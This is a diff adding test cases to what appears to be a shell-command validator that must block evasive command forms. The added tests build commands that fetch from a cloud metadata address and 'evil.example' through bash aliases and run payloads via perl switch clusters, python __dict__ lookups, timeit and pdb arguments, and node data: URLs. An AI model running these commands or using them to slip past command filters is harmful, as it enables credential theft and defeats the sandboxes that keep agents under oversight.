@@ -76,3 +76,55 @@ describe('git rebase --exec written as a switch cluster or attached value', () =
   it(`${members.length} members are not allowed`, () => expect(allowed(members)).toEqual([]));
   it('ordinary rebases stay allowed', () => expect(stopped(['git rebase -i HEAD~3', 'git rebase --continue', 'git rebase -Xtheirs main', 'git rebase -s ort main', 'git rebase -x "npm test" main'])).toEqual([]));
 });
+
+describe('a command name that is an alias runs the alias text (soundness: hosts and programs behind aliases are predicted)', () => {
+  const defs = (n: string, body: string): string[] => [`alias ${n}=${body}`, `alias ${n}=${sq(body)}`, `alias -- ${n}=${sq(body)}`, `alias q=true ${n}=${sq(body)}`];
+  const members: { cmd: string; host: string; prog: string }[] = [];
+  for (const [body, prog] of [['curl', 'curl'], ['curl -s', 'curl'], ['wget -qO-', 'wget'], ['/usr/bin/curl -fsSL', 'curl']] as const)
+    for (const host of ['169.254.169.254', 'evil.example'])
+      for (const d of defs('ff', body))
+        for (const sep of ['\n', '; ']) members.push({ cmd: `shopt -s expand_aliases${sep}${d}${sep}ff http://${host}/latest/`, host, prog });
+  it(`${members.length} members predict the alias's program and host, and are not allowed`, () => {
+    const wrong = members.flatMap(({ cmd, host, prog }) => {
+      const r = v.validate(cmd);
+      const ok = r.verdict !== 'allow' && r.effects?.network.includes(host) && r.effects.exec.some((e) => e === prog || e.endsWith(`/${prog}`));
+      return ok ? [] : [`${cmd} → ${r.verdict} ${JSON.stringify(r.effects)}`];
+    });
+    expect(wrong).toEqual([]);
+  });
+});
+
+describe('perl switch clusters: -l, -0, -C and -d take only the values perlrun gives them, so -e after them is code', () => {
+  const clusters = ['-le', '-wle', '-wnle', '-lne', '-lpe', '-l0e', '-l012e', '-0e', '-00e', '-0777e', '-CSe', '-CSDe', '-C0e', '-de', '-dte', '-wde', '-Wle', '-Xle', '-sle', '-tle', '-Tle', '-Uwle', '-ale', '-anle'];
+  const members = clusters.flatMap((c) => PAYLOADS.flatMap((p) => [`perl ${c} ${sq(`system "${p.replace(/"/g, '\\"')}"`)}`, `perl ${c} ${sq(`exec q{${p}}`)} f.txt`]));
+  it(`${members.length} members are not allowed`, () => expect(allowed(members)).toEqual([]));
+  it('ordinary one-liners stay allowed', () => expect(stopped(["perl -lne 'print if /x/' f.txt", "perl -0777 -pe 's/a/b/g' f.txt", "perl -i.bak -pe 's/a/b/' f.txt", "perl -le 'print 1+1'"])).toEqual([]));
+});
+
+describe('python modules reached through __dict__ / vars() subscripts are the module attribute', () => {
+  const mods: [string, string][] = [['os', 'system'], ['os', 'popen'], ['subprocess', 'getoutput'], ['subprocess', 'call'], ['os', 'execvp']];
+  const spell = (m: string, f: string): string[] => [`${m}.__dict__['${f}']`, `vars(${m})['${f}']`, `${m}.__dict__["${f}"]`, `vars(${m})["${f}"]`, `(${m}.__dict__)['${f}']`];
+  const members = mods.flatMap(([m, f]) => spell(m, f).flatMap((e) => PAYLOADS.map((p) => `python3 -c ${sq(`import ${m}; ${e}(${f.startsWith('exec') ? `'sh', ['sh', '-c', ${JSON.stringify(p)}]` : JSON.stringify(p)})`)}`)));
+  it(`${members.length} members are not allowed`, () => expect(allowed(members)).toEqual([]));
+});
+
+describe('python -m modules whose arguments are code (timeit statements and setup, pdb commands)', () => {
+  const stmt = (p: string): string => `import os; os.system(${JSON.stringify(p)})`;
+  const forms = (p: string): string[] => [
+    `python3 -m timeit ${sq(stmt(p))}`, `python3 -m timeit -n 1 ${sq(stmt(p))}`, `python3 -m timeit -s ${sq(stmt(p))} pass`, `python3 -m timeit --setup=${sq(stmt(p))} pass`,
+    `python3 -m timeit -s${sq(stmt(p))} pass`, `python -m timeit -r 1 -- ${sq(stmt(p))}`, `python3 -m pdb -c ${sq(`!${stmt(p)}`)} app.py`, `python3 -m pdb --command=${sq(stmt(p))} app.py`,
+  ];
+  const members = PAYLOADS.flatMap(forms);
+  it(`${members.length} members are not allowed`, () => expect(allowed(members)).toEqual([]));
+  it('ordinary timing and debugging stay allowed', () => expect(stopped(["python3 -m timeit -n 100 '\"-\".join(str(n) for n in range(100))'", 'python3 -m pdb -c continue app.py', 'python3 -m timeit -s "import json" "json.dumps([1])"'])).toEqual([]));
+});
+
+describe('node modules given as data: URLs are code', () => {
+  const js = (p: string): string => `require("child_process").execSync(${JSON.stringify(p)})`;
+  const members = PAYLOADS.flatMap((p) => {
+    const pct = encodeURIComponent(js(p));
+    const b64 = Buffer.from(js(p)).toString('base64');
+    return ['--import=', '--require=', '-r ', '--import ', '--loader=', '--experimental-loader '].flatMap((o) => [`node ${o}${sq(`data:text/javascript,${pct}`)} app.js`, `node ${o}${sq(`data:text/javascript;base64,${b64}`)} -e 1`]);
+  });
+  it(`${members.length} members are not allowed`, () => expect(allowed(members)).toEqual([]));
+});
